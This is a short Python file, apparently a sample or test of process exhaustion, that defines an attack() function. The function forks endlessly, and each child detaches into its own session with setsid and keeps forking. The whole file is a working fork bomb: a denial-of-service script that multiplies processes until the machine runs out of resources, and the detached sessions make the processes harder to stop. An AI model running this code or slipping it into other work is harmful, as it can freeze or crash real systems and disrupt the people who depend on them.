"""process count: forks for ever, in sessions of their own."""

import os


def attack():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue
